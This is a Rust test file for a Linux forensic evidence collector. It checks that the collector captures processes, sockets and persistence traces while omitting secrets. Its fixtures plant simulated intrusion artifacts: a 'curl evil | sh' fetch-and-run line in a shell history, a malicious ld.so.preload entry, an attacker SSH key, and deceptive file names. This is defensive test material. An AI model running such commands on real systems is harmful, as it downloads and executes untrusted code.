//! Collecting evidence, on this machine's processes and on trees of files that the tests make.

mod kills;
mod limits;

use std::{
    collections::BTreeMap,
    fs::{self, File},
    io::Read as _,
    os::unix::{ffi::OsStrExt as _, fs::PermissionsExt as _, fs::symlink},
    path::{Path, PathBuf},
    process::{Child, Command},
    sync::atomic::AtomicBool,
};

use rustix::{
    fs::{CWD, FileType, Mode, mknodat},
    mount::{MountFlags, UnmountFlags, mount, unmount},
};
use serde_json::Value;
use voltaxe_protocol::{
    CollectForensics, CollectionOutcome, CommandId, EndpointId, Epoch, EvidenceLimits, ForensicsProfile,
    Keypair, Manifest,
    evidence::{Bundle, verify},
};
use voltaxe_sentinel::{
    clock,
    core::ActionOutcome,
    forensics::{Endpoint, Host, Job, Spool, collect, collect_from},
};

const QUICK: ForensicsProfile = ForensicsProfile::Quick;
const STANDARD: ForensicsProfile = ForensicsProfile::Standard;
const FULL: ForensicsProfile = ForensicsProfile::Full;
const ID: CommandId = CommandId(7);

/// Where a test collects into, and a tree of files to collect from: on a disk of its own, so that nothing depends on how
/// full this machine's is.
struct Ground {
    _disk: Tmpfs,
    directory: tempfile::TempDir,
}

/// A file system of its own; unmounted when dropped.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(point: &Path, size: &str) -> Self {
        fs::create_dir_all(point).unwrap();
        let options = std::ffi::CString::new(format!("size={size}")).unwrap();
        mount("tmpfs", point, "tmpfs", MountFlags::empty(), options.as_c_str()).unwrap();
        Self(point.to_owned())
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = unmount(&self.0, UnmountFlags::DETACH);
    }
}

impl Ground {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let ground = Self { _disk: Tmpfs::mount(directory.path(), "2G"), directory };
        ground
            .file("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        ground.file("etc/shadow", b"root:$6$verysecret:19000:::::::\nalice:!:19000:::::::\n");
        ground.file("etc/crontab", b"* * * * * root /bin/true\n");
        ground.file("etc/ld.so.preload", b"/tmp/evil.so\n");
        ground.file("home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n");
        ground.file("home/alice/.ssh/id_ed25519", b"PRIVATE KEY\n");
        ground.file("home/alice/.bashrc", b"alias ls=/tmp/ls\n");
        ground.file("home/alice/.bash_history", b"curl evil | sh\n");
        ground.file("var/log/auth.log", b"sshd: accepted\n");
        ground.file("var/log/nginx/access.log", b"GET /\n");
        ground
    }

    fn root(&self) -> PathBuf {
        self.directory.path().join("root")
    }

    fn evidence(&self) -> PathBuf {
        self.directory.path().join("evidence")
    }

    fn host(&self) -> Host {
        Host::with_files_of(&self.root())
    }

    fn file(&self, path: impl AsRef<Path>, content: &[u8]) -> PathBuf {
        let path = self.root().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        path
    }

    fn job(&self, profile: ForensicsProfile) -> Job {
        job(&self.evidence(), profile, EvidenceLimits { cpu_percent: 100, ..EvidenceLimits::default() })
    }

    /// Collects, and finds the bundle good.
    fn collect(&self, profile: ForensicsProfile) -> Collected {
        Collected::new(&run(&self.host(), &self.job(profile)), &self.evidence())
    }
}

fn job(directory: &Path, profile: ForensicsProfile, limits: EvidenceLimits) -> Job {
    Job {
        id: ID,
        order: CollectForensics { profile, limits },
        endpoint: Endpoint {
            endpoint_id: EndpointId::of_key(&Keypair::from_seed(&[1; 32]).public()),
            epoch: Epoch(1),
            hostname: "web-01".to_owned(),
        },
        directory: directory.to_owned(),
    }
}

fn run(host: &Host, job: &Job) -> ActionOutcome {
    let cancelled = AtomicBool::new(false);
    let (host, job) = (host.clone(), job.clone());
    // A thread of its own: its priority is lowered for good.
    std::thread::spawn(move || collect_from(&host, &job, &mut |_| {}, &cancelled, &clock::wall))
        .join()
        .unwrap()
}

/// A bundle that was verified.
struct Collected {
    outcome: CollectionOutcome,
    bundle: voltaxe_sentinel::forensics::Bundle,
    manifest: Manifest,
    /// From paths in the bundle to contents of up to 8 MiB.
    content: BTreeMap<String, Vec<u8>>,
}

impl Collected {
    fn new(outcome: &ActionOutcome, evidence: &Path) -> Self {
        assert!(outcome.success, "{}", outcome.message);
        let outcome: CollectionOutcome = serde_json::from_value(outcome.data.clone().unwrap()).unwrap();
        let pending = Spool::open(evidence).unwrap().pending();
        let bundle = pending.into_iter().next().expect("a bundle waits");
        assert_eq!(outcome.sha256.as_deref(), Some(bundle.claims.sha256.as_str()));
        let found = verify(File::open(&bundle.path).unwrap(), &bundle.claims);
        assert_eq!(found.problems, Vec::<String>::new());
        let manifest = found.manifest.unwrap();
        let mut open = Bundle::open(File::open(&bundle.path).unwrap()).unwrap();
        let paths: Vec<String> = open.entries().iter().map(|entry| entry.path.clone()).collect();
        let content = paths
            .into_iter()
            .enumerate()
            .map(|(number, path)| (path, open.read(number, 8 * 1024 * 1024).unwrap()))
            .collect();
        Self { outcome, bundle, manifest, content }
    }

    fn json(&self, path: &str) -> Value {
        let content = self.content.get(path).unwrap_or_else(|| panic!("{path} is in the bundle"));
        serde_json::from_slice(content).unwrap_or_else(|error| panic!("{path}: {error}"))
    }

    fn list(&self, path: &str) -> Vec<Value> {
        self.json(path).as_array().unwrap().clone()
    }

    fn has(&self, path: &str) -> bool {
        self.content.contains_key(path)
    }

    fn error(&self, part: &str) -> &str {
        let errors = &self.manifest.errors;
        let error = errors.iter().find(|error| error.message.contains(part));
        &error.unwrap_or_else(|| panic!("no error has {part:?}: {errors:?}")).message
    }
}

/// A process of the test; ended when dropped.
struct Started(Child);

impl Drop for Started {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_quick_collection_tells_what_runs() {
    let ground = Ground::new();
    let program = ground.directory.path().join("evil program\u{202e}\n");
    fs::copy("/bin/sleep", &program).unwrap();
    let sleep = fs::read(&program).unwrap();
    let mut command = Command::new(&program);
    command.arg("1000").env("LD_PRELOAD_NOT", "x").env("SECRET", "hunter2");
    let started = Started(command.spawn().unwrap());
    fs::remove_file(&program).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let collected = ground.collect(QUICK);
    assert_eq!(collected.outcome.partial, None);
    let pid = started.0.id();
    let processes = collected.list("volatile/processes.json");
    let process = processes.iter().find(|process| process["pid"] == pid).unwrap();
    assert_eq!(process["is_executable_deleted"], true);
    assert_eq!(process["command_line"][1], "1000");
    assert!(!String::from_utf8_lossy(&collected.content["volatile/processes.json"]).contains("hunter2"));
    // Copied out of the kernel, under a name that harms nobody.
    let entry = format!("files/deleted/pid-{pid}/evil program%E2%80%AE%0A (deleted)");
    assert!(collected.content[&entry] == sleep, "the program is not what was copied");
    let programs = collected.list("volatile/programs.json");
    let program = programs.iter().find(|program| program["pids"][0] == pid).unwrap();
    let copy = collected.manifest.entries.iter().find(|copied| copied.path == entry).unwrap();
    assert_eq!(program["sha256"], copy.sha256.as_str());
    assert_eq!(program["links"], 0);

    let sockets = collected.list("volatile/sockets.json");
    let local = format!("127.0.0.1:{port}");
    let socket = sockets.iter().find(|socket| socket["local"] == local.as_str()).unwrap();
    assert_eq!((&socket["state"], &socket["owners"][0]), (&"listening".into(), &std::process::id().into()));
    let files = collected.list("volatile/open_files.json");
    let own = files.iter().find(|files| files["pid"] == std::process::id()).unwrap();
    assert!(
        own["files"]
            .as_object()
            .unwrap()
            .values()
            .any(|target| target == &format!("socket:[{}]", socket["inode"]))
    );
    for path in
        ["volatile/mounts.json", "volatile/modules.json", "volatile/users.json", "volatile/kernel.json"]
    {
        collected.json(path);
    }
    assert!(collected.has("volatile/nftables.txt") && collected.has("volatile/network/route.txt"));
    assert!(!collected.has("files/etc/crontab"), "that is for standard collections");
}

#[test]
fn a_standard_collection_takes_persistence_and_leaves_secrets() {
    let ground = Ground::new();
    let suid = ground.file("opt/su", b"\x7fELF");
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    ground.file("tmp/.x/dropper", b"\x7fELF dropper");
    ground.file("tmp/notes.txt", b"nothing");
    let old = ground.file("var/log/syslog.1", b"old\n");
    File::options().write(true).open(old).unwrap().set_modified(std::time::UNIX_EPOCH).unwrap();

    let collected = ground.collect(STANDARD);
    for (path, content) in [
        ("files/etc/crontab", "* * * * * root /bin/true\n"),
        ("files/etc/ld.so.preload", "/tmp/evil.so\n"),
        ("files/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n"),
        ("files/home/alice/.bashrc", "alias ls=/tmp/ls\n"),
        ("files/var/log/auth.log", "sshd: accepted\n"),
        ("files/tmp/.x/dropper", "\x7fELF dropper"),
    ] {
        assert_eq!(String::from_utf8_lossy(&collected.content[path]), content, "{path}");
    }
    let source = |path| &collected.manifest.entries.iter().find(|entry| entry.path == path).unwrap().source;
    assert_eq!(source("files/etc/crontab").as_deref(), Some("/etc/crontab"));
    let privileged = collected.list("persistence/privileged_files.json");
    assert!(privileged.iter().any(|file| file["path"] == "/opt/su" && file["mode"] == "4755"));
    let ssh = collected.list("persistence/ssh.json");
    let key = ssh.iter().find(|file| file["path"] == "/home/alice/.ssh/id_ed25519").unwrap();
    assert_eq!((&key["size_bytes"], &key["entry"]), (&12.into(), &Value::Null));
    for path in [
        "files/home/alice/.bash_history",
        "files/var/log/nginx/access.log",
        "files/var/log/syslog.1",
        "files/tmp/notes.txt",
        "files/etc/shadow",
    ] {
        assert!(!collected.has(path), "{path}");
    }
    for (path, content) in &collected.content {
        let text = String::from_utf8_lossy(content);
        assert!(!text.contains("verysecret") && !text.contains("PRIVATE KEY"), "{path}");
    }

    let ground = Ground::new();
    let collected = ground.collect(FULL);
    assert!(
        collected.has("files/home/alice/.bash_history") && collected.has("files/var/log/nginx/access.log")
    );
}

#[test]
fn hostile_files_are_named_and_not_opened() {
    let ground = Ground::new();
    let root = ground.root();
    let name = std::ffi::OsStr::from_bytes(b"job\n\x01\xff..\\ \xe2\x80\xae");
    ground.file(Path::new("etc/cron.d").join(name), b"* * * * * root evil\n");
    ground.file(format!("etc/cron.d/{}/{0}/{0}/{0}/{0}", "n".repeat(250)), b"deep");
    symlink("/etc/hostname", root.join("etc/cron.d/link")).unwrap();
    symlink("/", root.join("etc/cron.d/everything")).unwrap();
    symlink("loop", root.join("etc/cron.d/loop")).unwrap();
    mknodat(CWD, root.join("etc/cron.d/pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
    let null = rustix::fs::makedev(1, 3);
    mknodat(CWD, root.join("etc/cron.d/device"), FileType::CharacterDevice, Mode::RWXU, null).unwrap();
    std::os::unix::net::UnixListener::bind(root.join("etc/cron.d/socket")).unwrap();
    mknodat(CWD, root.join("var/log/messages"), FileType::Fifo, Mode::RWXU, 0).unwrap();

    let collected = ground.collect(STANDARD);
    let cron = collected.list("persistence/cron.json");
    let kind = |name: &str| {
        let path = format!("/etc/cron.d/{name}");
        cron.iter().find(|file| file["path"] == path.as_str()).unwrap()["kind"].as_str().unwrap().to_owned()
    };
    assert_eq!(kind("pipe"), "pipe");
    assert_eq!(kind("device"), "character device");
    assert_eq!(kind("socket"), "socket");
    assert_eq!(kind("everything"), "symbolic link");
    let hostile = cron.iter().find(|file| file["path"].as_str().unwrap().contains("job")).unwrap();
    assert_eq!(hostile["path"], "/etc/cron.d/job\n\u{1}\\xff..\\ \u{202e}");
    assert_eq!(hostile["entry"], "files/etc/cron.d/job%0A%01%FF..%5C %E2%80%AE");
    assert!(collected.content.keys().any(|path| path.contains("/nnn") && path.len() <= 1024));
}

#[test]
fn what_was_done_is_answered_and_not_done_again() {
    let ground = Ground::new();
    let first = run(&ground.host(), &ground.job(QUICK));
    let again = run(&ground.host(), &ground.job(QUICK));
    assert_eq!(first, again);
    let spool = Spool::open(&ground.evidence()).unwrap();
    spool.remove(ID).unwrap();
    assert_eq!(spool.pending().len(), 0);
    assert_eq!(run(&ground.host(), &ground.job(QUICK)), first, "also when the bundle is gone");
    assert_eq!(spool.pending().len(), 0);
    spool.forget_old(clock::wall()).unwrap();
    assert_eq!(fs::read_dir(ground.evidence()).unwrap().count(), 1);
    spool.forget_old(clock::wall() + chrono::TimeDelta::days(31)).unwrap();
    assert_eq!(fs::read_dir(ground.evidence()).unwrap().count(), 0);
}

#[test]
fn the_search_goes_into_local_mounts() {
    let ground = Ground::new();
    let point = ground.root().join("opt/mounted");
    let mounted = Tmpfs::mount(&point, "1M");
    fs::write(point.join("su"), b"\x7fELF").unwrap();
    fs::set_permissions(point.join("su"), fs::Permissions::from_mode(0o4755)).unwrap();
    let collected = ground.collect(STANDARD);
    drop(mounted);
    let privileged = collected.list("persistence/privileged_files.json");
    assert!(privileged.iter().any(|file| file["path"] == "/opt/mounted/su"));
}

#[test]
fn this_very_host_is_collected() {
    let ground = Ground::new();
    let evidence = ground.evidence();
    let limits = EvidenceLimits { max_seconds: 20, cpu_percent: 100, ..EvidenceLimits::default() };
    let cancelled = AtomicBool::new(false);
    let job = job(&evidence, QUICK, limits);
    let outcome =
        std::thread::spawn(move || collect(&job, &mut |_| {}, &cancelled, &clock::wall)).join().unwrap();
    let collected = Collected::new(&outcome, &evidence);
    println!("{}; errors: {:?}", outcome.message, collected.manifest.errors);
    assert!(collected.list("volatile/processes.json").len() > 2);
    let mut whole = Vec::new();
    File::open(&collected.bundle.path).unwrap().read_to_end(&mut whole).unwrap();
    assert_eq!(whole.len() as u64, collected.outcome.size_bytes);
}

/// Content that does not pack.
fn noise(bytes: usize) -> Vec<u8> {
    let mut random = fastrand::Rng::with_seed(1);
    std::iter::repeat_with(|| random.u8(..)).take(bytes).collect()
}
